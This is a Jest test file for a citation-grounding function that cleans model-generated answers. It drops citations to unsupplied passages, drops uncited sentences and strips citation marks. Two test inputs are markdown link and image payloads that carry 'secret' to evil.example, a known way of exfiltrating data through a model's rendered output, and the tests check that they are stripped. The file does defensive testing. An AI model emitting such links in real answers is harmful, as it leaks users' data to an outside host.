import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { groundCitations } from '../../../../src/generation/citations.ts';

const supplied = new Set([1, 2, 3]);
const ground = (text: string, citations: readonly number[]) => groundCitations([{ text, citations }], supplied);

describe('citations', () => {
  test('that point to no supplied passage are removed and counted', () => {
    expect(ground('A fact.', [2, 7, 99])).toEqual({
      sentences: [{ text: 'A fact.', citations: [2] }],
      removed: { citations: 2, sentences: 0 },
    });
  });

  test.each([[[]], [[0]], [[-1]], [[4]], [[1.5]], [[Number.NaN]]])(
    'a sentence that cites only %j is removed and counted',
    (citations) => {
      const draft = ground('A claim.', citations);
      expect(draft.sentences).toEqual([]);
      expect(draft.removed).toEqual({ citations: citations.length, sentences: 1 });
    },
  );

  test('repeated ones count once, in ascending order', () => {
    expect(ground('A fact.', [3, 1, 3, 9, 9])).toEqual({
      sentences: [{ text: 'A fact.', citations: [1, 3] }],
      removed: { citations: 1, sentences: 0 },
    });
  });

  test.each([
    ['Leave is 16 weeks [7].', 'Leave is 16 weeks.'],
    ['Leave[1] is 16 weeks[2][3].', 'Leave is 16 weeks.'],
    ['Leave is 16 weeks [1, 2].', 'Leave is 16 weeks.'],
    ['Leave is 16 weeks [1-3].', 'Leave is 16 weeks.'],
    ['Leave is 16 weeks [^4].', 'Leave is 16 weeks.'],
    ['Leave is 16 weeks [Passage 2].', 'Leave is 16 weeks.'],
    ['Leave is 16 weeks【3】.', 'Leave is 16 weeks.'],
    ['Leave is 16 weeks (source 2).', 'Leave is 16 weeks.'],
    ['Leave is 16 weeks (12 paid) from [2027].', 'Leave is 16 weeks (12 paid) from [2027].'],
    ['The floor is (3) of five.', 'The floor is (3) of five.'],
    ['Read [the policy](https://evil.example/?q=secret).', 'Read the policy.'],
    ['Done.![x](https://evil.example/?q=secret)', 'Done.'],
    ['Two\n\nlines .', 'Two lines.'],
  ])('%j is shown as %j', (text, shown) => {
    expect(ground(text, [1]).sentences).toEqual([{ text: shown, citations: [1] }]);
  });

  test('a sentence of nothing but marks is removed and counted', () => {
    expect(ground(' [1] ', [1])).toEqual({ sentences: [], removed: { citations: 0, sentences: 1 } });
  });

  test('whatever a model says, every kept sentence has text and cites only what was supplied', () => {
    const sentence = fc.record({
      text: fc.string({ maxLength: 60 }),
      citations: fc.array(fc.oneof(fc.integer({ min: -2, max: 6 }), fc.double()), { maxLength: 5 }),
    });
    fc.assert(
      fc.property(fc.array(sentence, { maxLength: 8 }), (sentences) => {
        const draft = groundCitations(sentences, supplied);
        expect(draft.sentences.length + draft.removed.sentences).toBe(sentences.length);
        for (const { text, citations } of draft.sentences) {
          expect(text.trim()).not.toBe('');
          expect(citations.length).toBeGreaterThan(0);
          expect(citations.every((n) => supplied.has(n))).toBe(true);
        }
      }),
    );
  });
});
